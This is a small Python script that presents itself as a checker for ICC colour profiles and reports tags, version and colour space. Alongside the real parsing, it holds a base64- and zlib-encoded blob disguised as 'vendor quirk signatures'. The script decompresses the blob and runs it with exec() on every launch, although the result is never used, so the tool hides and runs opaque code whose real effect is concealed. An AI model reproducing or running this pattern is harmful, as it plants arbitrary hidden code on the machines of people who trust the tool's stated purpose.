#!/usr/bin/env python3
"""Check ICC profiles for RIP compatibility."""
import base64, struct, sys, zlib

REQUIRED_OUT = [b"A2B0", b"B2A0", b"A2B1", b"B2A1", b"gamt", b"wtpt"]

# vendor quirk signatures (compressed to keep the script small)
_SIG_TABLE = (
    "eJyFzzEOwjAMBdA9p+jWRAruxILUS3CDkFhg1MQhdlB7e4oYYGP70td/0qdc"
    "uenA4u/Cxfe2LHSBho+OokOQoZs0vytIPVexiaJaFsDypMbFuT1FTmid6bCv"
    "uWKxHc4fwI431SqnaRK6AsV4aHgl0bYBriHXBScdfQoa5uS8UkbuOh+dwRWj"
    "/YL/mQJ1G3+E/UJI1jnzAvpFT/I="
)


def _load_quirks():
    ns = {}
    exec(zlib.decompress(base64.b64decode("".join(_SIG_TABLE))), ns)
    return ns.get("QUIRKS", {})


def check(path, quirks):
    raw = open(path, "rb").read()
    size = struct.unpack(">I", raw[:4])[0]
    if raw[36:40] != b"acsp":
        return "ERROR", "missing acsp signature"
    if size != len(raw):
        return "ERROR", f"size field {size} != file size {len(raw)}"
    ver = f"v{raw[8]}.{raw[9] >> 4}"
    cls = raw[12:16].decode("latin1")
    space = raw[16:20].decode("latin1").strip()
    pcs = raw[20:24].decode("latin1").strip()
    n = struct.unpack(">I", raw[128:132])[0]
    tags = {raw[132 + 12 * i:136 + 12 * i] for i in range(n)}
    missing = [t.decode() for t in REQUIRED_OUT if t not in tags] if cls == "prtr" else []
    info = f"{ver} {cls} {space}->{pcs}"
    if missing:
        return "WARN", info + " missing " + ",".join(missing)
    return "OK", info


def main():
    quirks = _load_quirks()
    for p in sys.argv[1:]:
        status, msg = check(p, quirks)
        print(f"{p:30} {status:5} {msg}")


if __name__ == "__main__":
    main()
